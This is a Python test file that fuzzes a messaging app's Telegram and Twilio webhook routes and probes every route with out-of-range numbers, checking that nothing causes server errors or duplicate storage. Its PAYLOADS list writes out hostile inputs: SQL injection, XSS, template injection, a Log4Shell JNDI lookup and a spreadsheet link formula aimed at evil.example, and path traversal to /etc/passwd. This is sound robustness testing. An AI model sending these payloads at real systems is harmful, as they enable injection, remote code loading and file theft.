"""Fuzzed messages through the real webhook routes of create_app (hypothesis), and every
route of the app probed with numbers past 64 bits.

Texts of every kind (any Unicode, control characters, SQL and HTML, keywords, numbers that
look like data) posted as Telegram updates and signed Twilio messages: each is answered 200,
stored exactly once as sent, and answered with an outbox row. Fuzzed update and form
structures: never a 5xx, and a request answered 4xx leaves nothing behind. Updates with
impossible ids or times: 200, kept marked rejected, a redelivery a duplicate.

About 3,650 cases in all (1,000 + 1,000 + 400 + 600 + 2 x 250 + 150) and 2 x 86 route probes;
each test stays well under 30 s on SQLite.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from starlette.applications import Starlette
from starlette.routing import Route
from starlette.testclient import TestClient

from dash.app.server import create_app
from dash.context import AppContext
from dash.db import Database
from dash.models import Message, OutboxItem
from dash.parsing import parse_command
from tests.fakes.signing import twilio_headers
from tests.fakes.telegram_api import FakeTelegram
from tests.fakes.twilio_api import FakeTwilio
from tests.support import web as w
from tests.support.delivery import configure, telegram_env, twilio_env
from tests.support.webhooks import TWILIO_PATH, Poster, telegram_update, twilio_params

FUZZ = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,  # the same cases every run: a failure is reproducible
)

PAYLOADS = [
    "'); DROP TABLE messages; --",
    "1 OR 1=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }} {% for x in range(9) %}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("https://evil.example")',
    "../../etc/passwd",
    "\u202egnp.exe",
    "JOIN",
    "JOIN ZZZZZZ",
    "YES",
    "NO",
    "PLAN",
    "CHART",
    "HELP",
    "?",
    "5/10",
    "12 of 9",
    "-3/4",
    "99999999999999999999/1",
    "1e308 of 1e309",
    "0/0",
    "🙂" * 50,
    "\x00",
    "\r\n\t",
]

texts = st.one_of(
    st.text(max_size=200),
    st.sampled_from(PAYLOADS),
    st.tuples(st.sampled_from(PAYLOADS), st.text(max_size=40)).map(" ".join),
    st.text(alphabet=st.sampled_from("0123456789/ ofOFoutOUT.-,"), max_size=20),
)


@pytest.fixture
def ctx(
    monkeypatch: pytest.MonkeyPatch,
    db: Database,
    fake_telegram: FakeTelegram,
    fake_twilio: FakeTwilio,
) -> AppContext:
    return configure(
        monkeypatch,
        db,
        **telegram_env(fake_telegram),
        **twilio_env(fake_twilio),
        public_url="https://dash.example.org",
    )


@pytest.fixture
def poster(ctx: AppContext) -> Any:
    with TestClient(
        create_app(ctx, background=False),
        raise_server_exceptions=False,
        base_url="https://dash.example.org",
    ) as client:
        yield Poster(ctx, client)


@contextmanager
def coach_browser(ctx: AppContext) -> Iterator[TestClient]:
    """The dashboard over https, logged in as the world's coach."""
    with TestClient(
        create_app(ctx, background=False),
        base_url="https://dash.example.org",
        follow_redirects=False,
    ) as client:
        w.login(client, COACH_EMAIL)
        yield client


def counts(db: Database) -> tuple[int, int]:
    with db.transaction() as s:
        return (
            s.execute(select(func.count(Message.id))).scalar_one(),
            s.execute(select(func.count(OutboxItem.id))).scalar_one(),
        )


def stored_once_and_answered(db: Database, channel: str, provider_id: str, address: str) -> None:
    with db.transaction() as s:
        rows = (
            s.execute(
                select(Message).where(
                    Message.channel == channel, Message.provider_id == provider_id
                )
            )
            .scalars()
            .all()
        )
        assert len(rows) == 1, f"stored {len(rows)} times"
        inbound = rows[0]
        assert inbound.status == "processed"
        answers = s.execute(
            select(func.count(OutboxItem.id)).where(
                OutboxItem.address == address, OutboxItem.message_id > inbound.id
            )
        ).scalar_one()
        assert answers >= 1, f"{inbound.text!r} was not answered"


def is_stop(text: str) -> bool:
    """STOP is the one message deliberately not answered on SMS (Twilio confirms it)."""
    command = parse_command(text.replace("\x00", "\ufffd").strip())
    return command is not None and command.name == "stop"


def test_fuzzed_telegram_texts_are_stored_once_and_answered(poster: Poster, db: Database) -> None:
    ids = itertools.count(1)

    @settings(FUZZ, max_examples=1000)
    @given(text=texts)
    def check(text: str) -> None:
        n = next(ids)
        user = 800_000_000 + n
        answer = poster.telegram(telegram_update(n, user, text))
        assert answer.status_code == 200, answer.text
        stored_once_and_answered(db, "telegram", f"u{n}", str(user))

    check()


def test_fuzzed_sms_and_whatsapp_texts_are_stored_once_and_answered(
    poster: Poster, db: Database
) -> None:
    ids = itertools.count(1)

    @settings(FUZZ, max_examples=1000)
    @given(text=texts, whatsapp=st.booleans())
    def check(text: str, whatsapp: bool) -> None:
        assume(not is_stop(text))
        n = next(ids)
        number = f"+1312{n:07d}"
        params = twilio_params(f"whatsapp:{number}" if whatsapp else number, text)
        answer = poster.twilio(params)
        assert answer.status_code == 200, answer.text
        channel = "whatsapp" if whatsapp else "sms"
        stored_once_and_answered(db, channel, params["MessageSid"], number)

    check()


def test_one_person_sending_fuzz_in_a_row_gets_every_message_answered(
    poster: Poster, db: Database
) -> None:
    """The same sender throughout: conversation state (pending questions, hand-over to a
    coach after repeated bad answers, the identical-reply cap) must never swallow a reply."""
    ids = itertools.count(1)
    number = "+13125550199"

    @settings(FUZZ, max_examples=400)
    @given(text=texts)
    def check(text: str) -> None:
        assume(not is_stop(text))
        params = twilio_params(number, text, sid=f"SM{next(ids):032d}")
        answer = poster.twilio(params)
        assert answer.status_code == 200, answer.text
        stored_once_and_answered(db, "sms", params["MessageSid"], number)

    check()


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)

FIELDS = [
    ("message",),
    ("message", "text"),
    ("message", "from"),
    ("message", "from", "id"),
    ("message", "from", "is_bot"),
    ("message", "chat"),
    ("message", "chat", "id"),
    ("message", "chat", "type"),
    ("message", "date"),
    ("message", "message_id"),
    ("message", "entities"),
    ("message", "photo"),
    ("message", "caption"),
    ("edited_message",),
    ("callback_query",),
    ("my_chat_member",),
    ("channel_post",),
]


def _set(update: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    target = update
    for key in path[:-1]:
        target = target.setdefault(key, {})
        if not isinstance(target, dict):
            return update
    target[path[-1]] = value
    return update


def test_fuzzed_telegram_update_structures_never_cause_a_5xx(poster: Poster, db: Database) -> None:
    ids = itertools.count(1)

    @settings(FUZZ, max_examples=600)
    @given(
        changes=st.lists(st.tuples(st.sampled_from(FIELDS), json_values), min_size=1, max_size=3)
    )
    def check(changes: list[tuple[tuple[str, ...], Any]]) -> None:
        n = next(ids)
        update = telegram_update(n, 900_000_000 + n, "hello")
        for path, value in changes:
            update = _set(update, path, value)
        before = counts(db)
        answer = poster.telegram(json.dumps(update).encode())
        assert answer.status_code in (200, 400), (answer.status_code, answer.text, update)
        if answer.status_code == 400:
            assert counts(db) == before, "a refused update left something behind"

    check()


field_names = st.sampled_from(
    [
        "MessageSid",
        "SmsMessageSid",
        "From",
        "To",
        "Body",
        "NumMedia",
        "MediaUrl0",
        "MediaContentType0",
        "ProfileName",
        "AccountSid",
        "MessageStatus",
        "ErrorCode",
    ]
) | st.from_regex(r"[A-Za-z][A-Za-z0-9]{0,15}", fullmatch=True)
form_values = st.text(
    alphabet=st.characters(blacklist_categories=["Cs"]), max_size=60
) | st.sampled_from(["+13125550101", "whatsapp:+13125550101", "whatsapp:", "1", "-1", "999999"])


@pytest.mark.parametrize("path", [TWILIO_PATH, "/webhooks/twilio/status"])
def test_fuzzed_signed_twilio_forms_never_cause_a_5xx(
    ctx: AppContext, poster: Poster, db: Database, path: str
) -> None:
    ids = itertools.count(1)
    token = str(ctx.settings.twilio_auth_token)

    @settings(FUZZ, max_examples=250)
    @given(fields=st.dictionaries(field_names, form_values, max_size=8))
    def check(fields: dict[str, str]) -> None:
        fields = {"MessageSid": f"SM{next(ids):032d}", **fields}
        before = counts(db)
        answer = poster.client.post(
            path, data=fields, headers=twilio_headers(token, ctx.settings.url(path), fields)
        )
        assert answer.status_code in (200, 400), (answer.status_code, answer.text, fields)
        if answer.status_code == 400:
            assert counts(db) == before, "a refused message left something behind"

    check()


# -- Out-of-range numbers in every route --------------------------------------------------------

#: Integers no database column holds: just past signed 64 bits, far past it, and below it.
HUGE = [2**63, 10**23, -(2**63) - 1]
#: Every query or form field a page reads as a number, sent huge to every route.
NUMBER_FIELDS = ("snippet", "coach_id", "number", "score", "update_id")
#: What a path parameter that is not a number gets (tokens are refused by their signature).
TEXT_PARAMS = {"token": "forged", "what": "messages"}
ADMIN_EMAIL = "root@example.org"
COACH_EMAIL = "casey@example.org"


@pytest.fixture
def world(ctx: AppContext) -> dict[str, int]:
    """A cohort with a team, coached by COACH_EMAIL; ADMIN_EMAIL is an admin."""
    with ctx.db.transaction() as s:
        cohort = w.cohort(s, name="Probed")
        w.coach(s, COACH_EMAIL, cohorts=[cohort])
        w.coach(s, ADMIN_EMAIL, admin=True)
        team = w.team(s, cohort, "7 North", members=[w.nurse(s, "Ana", "ana")])
        return {"cohort_id": cohort.id, "team_id": team.id}


def _int_params(route: Route) -> list[str]:
    return [name for name in route.param_convertors if name not in TEXT_PARAMS]


def _probes(app: Starlette, world: dict[str, int]) -> list[tuple[str, str, str]]:
    """(method, path, what the probe is) for every route and method of `app`: each number in
    its path huge in turn, and the real ids with every numeric field huge."""
    probes = []
    for route in app.routes:
        if not isinstance(route, Route):
            continue  # /static: files, no numbers
        for method in sorted((route.methods or {"GET"}) - {"HEAD"}):
            names = _int_params(route)
            real = {name: world.get(name, 1) for name in names}
            for name, value in itertools.product(names, HUGE):
                params = {**TEXT_PARAMS, **real, name: value}
                probes.append((method, route.path.format(**params), f"{name}={value}"))
            probes.append((method, route.path.format(**TEXT_PARAMS, **real), "huge fields"))
    return sorted(probes, key=lambda probe: probe[1] == "/logout")  # logging out goes last


@pytest.mark.parametrize("who", ["coach", "admin"])
def test_no_route_answers_5xx_to_an_out_of_range_number(
    ctx: AppContext, world: dict[str, int], who: str
) -> None:
    """Every route create_app serves, with 2^63, 10^23 and -2^63-1 for each number in its
    path and in every numeric query or form field: a 4xx (or a redirect), never a 5xx."""
    app = create_app(ctx, background=False)
    probes = _probes(app, world)
    paths = {path for _, path, _ in probes}
    assert any("/cohorts/" in p for p in paths) and any("/admin/outbox/" in p for p in paths)
    huge_fields = {name: str(2**63) for name in NUMBER_FIELDS}
    with TestClient(
        app, raise_server_exceptions=False, base_url="https://dash.example.org",
        follow_redirects=False,
    ) as client:
        w.login(client, ADMIN_EMAIL if who == "admin" else COACH_EMAIL)
        token = w.csrf_of(client.get("/").text)
        failures = []
        for method, path, what in probes:
            if method == "GET":
                answer = client.get(path, params=huge_fields)
            else:
                answer = client.post(path, data={**huge_fields, "csrf": token})
            if answer.status_code >= 500:
                failures.append(f"{method} {path} ({what}): {answer.status_code}")
    assert not failures, "\n".join(failures)


def test_an_out_of_range_id_is_not_found_and_an_out_of_range_query_number_a_400(
    ctx: AppContext, world: dict[str, int]
) -> None:
    with coach_browser(ctx) as client:
        assert client.get("/cohorts/99999999999999999999999").status_code == 404
        assert client.get(f"/teams/{2**63}").status_code == 404
        team = f"/teams/{world['team_id']}"
        assert client.get(team, params={"snippet": str(2**63)}).status_code == 400
        assert client.get(team, params={"snippet": "-99999999999999999999"}).status_code == 400
        assert client.get(team, params={"snippet": str(2**63 - 1)}).status_code == 200


@pytest.mark.parametrize("score", ["inf", "-Infinity", "nan", "1e309"])
def test_a_rating_that_is_not_a_finite_number_is_refused_with_a_form_error(
    ctx: AppContext, world: dict[str, int], score: str
) -> None:
    team = f"/teams/{world['team_id']}"
    with coach_browser(ctx) as client:
        answer = w.post(client, f"{team}/rating", {"score": score}, form_page=team)
        assert answer.status_code == 400
        assert "Choose a score from the list (0.5 to 5.0)." in answer.text
        assert "Rated" not in client.get(team).text
        saved = w.post(client, f"{team}/rating", {"score": "3.5"}, form_page=team)
        assert saved.status_code == 303, "a real score is still taken"
        assert "Rated 3.5" in client.get(team).text


ID_FIELDS = [("message", "from", "id"), ("message", "chat", "id"), ("message", "message_id")]
TIME_FIELDS = [("message", "date"), ("message", "edit_date")]
past_64_bits = st.integers(min_value=2**63) | st.integers(max_value=-(2**63) - 1)
not_a_time = st.floats(min_value=253_402_300_800, allow_infinity=False) | st.floats(
    max_value=-1e-9, allow_infinity=False
)


def test_signed_updates_with_impossible_ids_or_times_are_kept_marked_and_answered_once(
    poster: Poster, db: Database
) -> None:
    """Each is answered 200, stored once marked "rejected", and its redelivery (Telegram
    retrying) is a 200 duplicate that processes nothing: never a 500 retried for ever."""
    ids = itertools.count(1)

    @settings(FUZZ, max_examples=150)
    @given(
        change=st.tuples(st.sampled_from(ID_FIELDS), past_64_bits)
        | st.tuples(st.sampled_from(TIME_FIELDS), not_a_time)
    )
    def check(change: tuple[tuple[str, ...], Any]) -> None:
        n = next(ids)
        update = _set(telegram_update(n, 600_000_000 + n, "hello"), *change)
        for attempt in range(2):
            answer = poster.telegram(update)
            assert answer.status_code == 200, (answer.text, update)
            assert answer.json()["duplicate"] is bool(attempt)
        with db.transaction() as s:
            (row,) = s.execute(select(Message).where(Message.provider_id == f"u{n}")).scalars()
            assert (row.status, row.error_code) == ("processed", "rejected")
            replies = select(func.count(OutboxItem.id)).where(OutboxItem.message_id > row.id)
            assert s.execute(replies).scalar_one() == 0

    check()
